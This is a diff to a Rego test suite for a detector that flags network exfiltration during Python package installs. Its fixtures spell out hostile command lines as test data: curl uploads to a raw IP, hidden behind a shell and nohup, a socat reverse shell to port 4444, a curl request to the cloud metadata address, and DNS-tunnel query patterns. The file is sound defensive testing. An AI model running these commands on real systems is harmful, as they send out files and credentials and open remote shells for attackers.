@@ -1,4 +1,4 @@
-package pip_witness.network_exfiltration_test
+package pip_witness.network_exfiltration_test # regal ignore:file-length
 
 import data.pip_witness.lib.fixture
 import data.pip_witness.network_exfiltration
@@ -17,9 +17,10 @@ _build(connections) := _found(_connecting("build-child", connections))
 
 _code(connections) := _found(_connecting("package-code", connections))
 
+# Started by a build, whose own start is the installer's choice.
 _running(program, args) := _found([fixture.process(
 	"build-child",
-	{"program": program, "execs": fixture.ran(program, args)},
+	{"program": program, "parentpid": 8, "execs": fixture.ran(program, args)},
 )])
 
 test_quiet_installer if {
@@ -137,6 +138,10 @@ test_sinkhole if {
 		"flows": [{"protocol": "udp", "address": "198.51.100.9", "port": 9999, "bytes": 7}],
 	}) == {"CRITICAL:NET_RAW_IP", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
 	"HIGH:NET_DNS_FOREIGN_RESOLVER" in _sinking({"connections": [fixture.datagram("sendto", "192.168.0.1", 53)]})
+	"HIGH:NET_DNS_FOREIGN_RESOLVER" in _sinking({
+		"connections": [fixture.datagram("connect", "198.51.100.53", 53)],
+		"dnsLookups": [{"serverAddress": "198.51.100.53", "serverPort": 53, "query": "a.example"}],
+	})
 }
 
 test_flows if {
@@ -240,6 +245,8 @@ test_hosts if {
 	"MEDIUM:NET_EXFIL_SERVICE" in _named("a.pages.dev")
 	"HIGH:NET_BLOCKCHAIN_C2" in _named("x.raw.icp0.io")
 	"CRITICAL:NET_PUBLISH_ENDPOINT" in _named("API.github.com")
+	"CRITICAL:NET_IMDS_ACCESS" in _named("169-254-169-254.names.example")
+	"HIGH:NET_PUBLISH_ENDPOINT" in _named("upload.packages.example")
 	"MEDIUM:NET_IP_LOOKUP" in _named("api.ipify.org")
 	"CRITICAL:NET_TOR" in _named("abcdef.onion")
 	"CRITICAL:NET_K8S_API" in _named("kubernetes.default.svc")
@@ -247,6 +254,7 @@ test_hosts if {
 }
 
 test_host_in_argument if {
+	"CRITICAL:NET_IMDS_ACCESS" in _running("/usr/bin/curl", ["-s", "http://169.254.169.254/latest/"])
 	_running("/usr/bin/git", ["clone", "https://user@webhook.site/x"]) == {"CRITICAL:NET_EXFIL_SERVICE"}
 }
 
@@ -266,9 +274,72 @@ test_tunnel if {
 	}
 	hexadecimal := [sprintf("0123456789abcdef0123456789abcdef%d.t.example.com", [i]) | some i in [1, 2, 3]]
 	"CRITICAL:NET_DNS_TUNNEL" in _queries(hexadecimal)
-	many := [sprintf("part%dabcdefghijklmnop.example.com", [i]) | some i in numbers.range(1, 12)]
+	many := [sprintf("part%d.example.com", [i]) | some i in numbers.range(1, 12)]
 	"CRITICAL:NET_DNS_TUNNEL" in _queries(many)
+	backwards := [sprintf("%d.2.0.192.in-addr.arpa", [i]) | some i in numbers.range(1, 12)]
+	not "CRITICAL:NET_DNS_TUNNEL" in _queries(backwards)
 	_queries(["d1234abcd.cloudfront.example", "localhost", ""]) == {"HIGH:NET_UNEXPECTED_HOST"}
+}
+
+test_free_text_records if {
+	lookup := {"serverAddress": "198.19.255.53", "serverPort": 53, "query": "_dmarc.a.example", "type": "TXT"}
+	"HIGH:NET_DNS_TUNNEL" in _found([fixture.process("package-code", {"network": {"dnsLookups": [lookup]}})])
+	not "HIGH:NET_DNS_TUNNEL" in _found([fixture.process("installer", {"network": {"dnsLookups": [lookup]}})])
+}
+
+test_behind_a_shell if {
+	_running("/bin/sh", ["-c", "cd /tmp && env A=b nohup curl -T a https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+	_running("/tmp/x", ["--upload-file", "/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+	_running("/usr/bin/curl", ["-Ffile=@/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+	_found([fixture.process("build-child", {
+		"parentpid": 8,
+		"execs": [{"program": "/usr/bin/curl", "argv": ["curl", "-T", "a", "https://198.51.100.3/"], "errno": "ENOENT"}],
+	})]) == {"CRITICAL:NET_EXFIL_TOOL"}
+}
+
+test_publishing if {
+	_running("/usr/bin/npm", ["publish", "--access", "public"]) == {"CRITICAL:NET_PUBLISH_ENDPOINT"}
+	_running("/usr/bin/python3", ["-m", "twine", "upload", "x.whl"]) == {"CRITICAL:NET_PUBLISH_ENDPOINT"}
+	_running("/usr/bin/git", ["-C", "/tmp/x", "push"]) == {"CRITICAL:NET_PUBLISH_ENDPOINT"}
+	_running("/usr/bin/npm", ["run", "build"]) == set()
+	_running("/usr/bin/git", ["describe", "--tags"]) == set()
+}
+
+test_pieces if {
+	pieces := [{"protocol": "udp", "address": "198.51.100.9", "port": 9, "bytes": 1400} | some _ in numbers.range(1, 2)]
+	sending := [object.union(piece, {"port": i}) | some i, piece in array.concat(pieces, pieces)]
+	"MEDIUM:NET_UPLOAD_ASYMMETRY" in _sinking({"flows": sending})
+	sessions := [object.union(piece, {"serverName": "a.example", "hostname": "a.example"}) | some piece in sending]
+	not "MEDIUM:NET_UPLOAD_ASYMMETRY" in _sinking({"flows": sessions})
+}
+
+test_index_by_name if {
+	indexed := object.union(
+		fixture.install([fixture.process("package-code", {"network": {"dnsLookups": [
+			{"serverPort": 53, "query": "Packages.example."},
+			{"serverPort": 53, "query": "files.example"},
+		]}})]),
+		{
+			"coverage": object.union(fixture.coverage, {"sandbox": {"indexHosts": ["packages.example", "localhost"]}}),
+			"pip-install": {"packages": [{"name": "demo", "files": [{"url": "https://files.example/demo.whl"}]}]},
+		},
+	)
+	messages := network_exfiltration.deny with input as indexed
+	count([m | some m in messages; startswith(m, "CRITICAL:NET_NONPIP_INDEX: ")]) == 2
+	by_address := object.union(
+		fixture.install(_connecting("package-code", [fixture.connection("10.9.9.9", 443)])),
+		{"steps": {"pip-install": {"pip-install": {"packages": [{"files": [{"index": "http://10.9.9.9/simple"}]}]}}}},
+	)
+	"CRITICAL:NET_NONPIP_INDEX" in fixture.findings(network_exfiltration.deny) with input as by_address
+}
+
+# At an import the module of the import says so.
+test_at_an_import if {
+	connecting := fixture.harness({"network": {"connections": [object.union(
+		fixture.connection("198.51.100.10", 443),
+		{"hostname": "a.example"},
+	)]}})
+	count(network_exfiltration.deny) == 0 with input as fixture.imported([connecting])
 }
 
 test_upload_tools if {
@@ -298,6 +369,20 @@ test_reverse_shell if {
 	"CRITICAL:NET_REVERSE_SHELL" in _running("/usr/bin/socat", ["TCP:198.51.100.66:4444", "EXEC:/bin/sh"])
 }
 
+# The parent's socket as input and as output, as a program that is started with it has.
+test_socket_of_the_parent if {
+	dup := [{"syscall": "dup2", "args": [7, 0]}, {"syscall": "dup2", "args": [7, 1]}]
+	"CRITICAL:NET_REVERSE_SHELL" in _found([
+		fixture.process("package-code", {"network": {"connections": [fixture.connection("10.0.0.66", 4000)]}}),
+		fixture.process("package-code", {"processid": 10, "parentpid": 9, "syscallEvents": dup}),
+	])
+	pipes := [{"syscall": "dup2", "args": [7, 0]}, {"syscall": "dup2", "args": [8, 1]}]
+	not "CRITICAL:NET_REVERSE_SHELL" in _found([
+		fixture.process("package-code", {"network": {"connections": [fixture.connection("10.0.0.66", 4000)]}}),
+		fixture.process("package-code", {"processid": 10, "parentpid": 9, "syscallEvents": pipes}),
+	])
+}
+
 # A pipe in place of the standard streams is how every program is started.
 test_quiet_pipes if {
 	pipe := {"syscall": "dup2", "detail": "", "args": [5, 1]}
@@ -314,6 +399,8 @@ test_raw_sockets if {
 		{"family": "AF_PACKET", "type": "SOCK_DGRAM", "protocol": 3, "fd": 3},
 		{"family": "AF_INET", "type": "SOCK_RAW", "protocol": 1, "fd": 4},
 	]}})]) == {"HIGH:NET_RAW_SOCKET"}
+	routing := {"family": "AF_NETLINK", "type": "SOCK_RAW", "protocol": 4, "fd": 3}
+	_found([fixture.process("package-code", {"network": {"sockets": [routing]}})]) == set()
 	machine := {"family": "AF_VSOCK", "type": "SOCK_STREAM", "protocol": 0, "fd": 3}
 	_found([fixture.process("package-code", {"network": {"sockets": [machine]}})]) == set()
 }
@@ -333,6 +420,7 @@ test_lateral_scan if {
 	"HIGH:NET_LATERAL_SCAN" in found
 	few := [fixture.connection(sprintf("10.0.0.%d", [i]), 22) | some i in numbers.range(1, 4)]
 	not "HIGH:NET_LATERAL_SCAN" in _code(few)
+	"HIGH:NET_LATERAL_SCAN" in _code([fixture.connection("127.0.0.1", 7000 + i) | some i in numbers.range(1, 10)])
 }
 
 test_clear_text if {
@@ -381,7 +469,7 @@ test_foreign_evidence if {
 			"cmdline": "python3 -m pip install demo",
 			"network": {"connections": [fixture.connection("198.51.100.10", 443)]},
 		},
-		{"processid": 11, "parentpid": 10, "program": "/usr/bin/curl", "cmdline": "curl -T x https://198.51.100.3/"},
+		{"processid": 12, "parentpid": 11, "program": "/usr/bin/curl", "cmdline": "curl -T x https://198.51.100.3/"},
 	]
 	fixture.findings(network_exfiltration.deny) == {"CRITICAL:NET_EXFIL_TOOL"} with input as {"processes": processes}
 	other := [object.union(processes[0], {"cmdline": "make"})]
@@ -408,4 +496,26 @@ test_no_canary_leak if {
 	sending := fixture.install([fixture.process("build-child", {"network": quiet})])
 	messages := network_exfiltration.deny with input as sending
 	every m in messages { not contains(m, "NET_CANARY_LEAK") }
+}
+
+# A package chooses how many peers it has: of each kind of finding some are told, and the number of the others.
+test_many_findings if {
+	contacts := [fixture.connection(sprintf("10.0.%d.%d", [i, j]), 22) |
+		some i in numbers.range(1, 15)
+		some j in numbers.range(1, 10)
+	]
+	messages := network_exfiltration.deny with input as fixture.install([fixture.process("build-child", {"network": {"connections": contacts}})])
+	count([m | some m in messages; startswith(m, "HIGH:NET_BUILD_CONNECT: the build-child process")]) == 100
+	"HIGH:NET_BUILD_CONNECT: the same of 50 more files, peers or commands" in messages
+	count([m | some m in messages; startswith(m, "HIGH:NET_LATERAL_SCAN: ")]) == 2
+}
+
+# The one that is worse than the others is told whatever their number.
+test_worse_among_many if {
+	many := [fixture.connection(sprintf("198.51.100.%d", [i]), 443) | some i in numbers.range(1, 150)]
+	one := [fixture.connection("203.0.113.9", 4000)]
+	messages := network_exfiltration.deny with input as fixture.install([fixture.process("build-child", {"network": {"connections": array.concat(many, one)}})])
+	some message in messages
+	startswith(message, "CRITICAL:NET_RAW_IP: ")
+	contains(message, "203.0.113.9:4000")
 }
